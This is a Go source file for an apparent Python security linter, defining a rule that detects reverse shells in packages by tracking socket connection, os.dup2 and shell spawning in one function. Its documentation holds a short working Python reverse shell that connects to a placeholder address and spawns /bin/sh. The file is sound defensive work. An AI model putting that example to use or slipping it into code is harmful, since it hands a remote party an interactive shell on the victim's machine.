package supplychain

import (
	"github.com/kraitsec/krait/internal/analysis"
	"github.com/kraitsec/krait/internal/python/ast"
	"github.com/kraitsec/krait/internal/python/semantic"
	"github.com/kraitsec/krait/internal/rules/ruleutil"
)

// ReverseShell flags a socket connection wired to a shell's standard streams.
var ReverseShell = &analysis.Rule{
	Code:       "KR820",
	Name:       "reverse-shell",
	Summary:    "socket connected to a shell's standard streams",
	Severity:   analysis.SeverityCritical,
	Confidence: analysis.ConfidenceHigh,
	CWE:        []int{506, 78},
	File:       runReverseShell,
	Doc: `## What it does
Flags a function (or the module's top level) that connects a socket and
hands it to a shell: os.dup2 of the socket onto file descriptors 0, 1 and 2
followed by pty.spawn, subprocess or os.exec* of a shell, or a subprocess
whose stdin and stdout are the socket's fileno(). The three steps must
appear in the same function.

## Why is this bad?
This is a reverse shell: it gives whoever listens at the address an
interactive shell on the machine, with the rights of the user who installed
or imported the package.

## Example
~~~python
import os, pty, socket
s = socket.socket()
s.connect(("203.0.113.7", 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/sh")
~~~

## Use instead
There is no legitimate form of this in a package; remove it. Remote
administration belongs to ssh, with keys the owner controls.

## References
- [MITRE ATT&CK T1059: Command and Scripting Interpreter](https://attack.mitre.org/techniques/T1059/)
- [CWE-506: Embedded Malicious Code](https://cwe.mitre.org/data/definitions/506.html)
`,
}

// processTails are the last names of processCalls.
var processTails = func() map[string]bool {
	out := map[string]bool{}
	for _, t := range tails(nil, processCalls) {
		out[t] = true
	}
	return out
}()

// shellState collects the reverse-shell steps of one function body.
type shellState struct {
	connect, dup2, spawn *ast.Call
	fileno               bool // a subprocess gets the socket's fileno() as a stream
}

func runReverseShell(p *analysis.Pass) {
	if p.File == nil || p.File.Module == nil || p.Model == nil || !imports(p.Model, "socket") && !mayImportByName(p) {
		return
	}
	// One walk; each call goes to the state of its innermost def (or the
	// module's).
	states := map[ast.Node]*shellState{}
	var order []ast.Node
	var visit func(n ast.Node, owner ast.Node)
	visit = func(n ast.Node, owner ast.Node) {
		ast.Children(n, func(c ast.Node) bool {
			o := owner
			switch x := c.(type) {
			case *ast.FunctionDef, *ast.AsyncFunctionDef:
				o = c
			case *ast.Call:
				st := states[owner]
				if st == nil {
					st = &shellState{}
					states[owner] = st
					order = append(order, owner)
				}
				st.add(p.Model, x)
			}
			visit(c, o)
			return true
		})
	}
	visit(p.File.Module, p.File.Module)
	for _, owner := range order {
		st := states[owner]
		if st.connect == nil || st.spawn == nil {
			continue
		}
		switch {
		case st.dup2 != nil:
			p.Report(st.spawn, "reverse shell: a socket is connected, duplicated onto the standard streams with os.dup2 and handed to a shell")
		case st.fileno:
			p.Report(st.spawn, "reverse shell: a socket is connected and given to a shell as its standard streams")
		}
	}
}

func (st *shellState) add(m *semantic.Model, c *ast.Call) {
	switch ruleutil.ResolvedTail(m, c) {
	case "create_connection", "dup2", "spawn", "connect", "connect_ex":
	default:
		if !processTails[ruleutil.ResolvedTail(m, c)] {
			return
		}
	}
	qn := m.CalleeName(c)
	switch {
	case qn == "socket.create_connection":
		st.connect = c
	case qn == "os.dup2":
		st.dup2 = c
	case qn == "pty.spawn":
		st.spawn = c
	case processCalls[qn]:
		prog, _ := commandProgram(m, c)
		switch prog {
		case "sh", "bash", "zsh", "dash", "ksh", "cmd", "cmd.exe", "powershell", "powershell.exe", "pwsh":
			st.spawn = c
			for _, k := range c.Keywords {
				if k.Arg == "stdin" || k.Arg == "stdout" {
					if fc, ok := k.Value.(*ast.Call); ok && calleeAttr(fc) == "fileno" {
						st.fileno = true
					}
				}
			}
		}
	default:
		if a, ok := c.Func.(*ast.Attribute); ok && (a.Attr == "connect" || a.Attr == "connect_ex") && len(c.Args) == 1 {
			if _, ok := c.Args[0].(*ast.Tuple); ok {
				st.connect = c
			} else if m.CalleeName(c) == "" && ruleConnectsSocket(m, a.Value) {
				st.connect = c
			}
		}
	}
}

// ruleConnectsSocket reports whether e is a socket made by socket.socket.
func ruleConnectsSocket(m *semantic.Model, e ast.Expr) bool {
	if v := bound(m, e); v != nil {
		e = v
	}
	c, ok := e.(*ast.Call)
	return ok && m.CalleeName(c) == "socket.socket"
}

func calleeAttr(c *ast.Call) string {
	if a, ok := c.Func.(*ast.Attribute); ok {
		return a.Attr
	}
	return ""
}
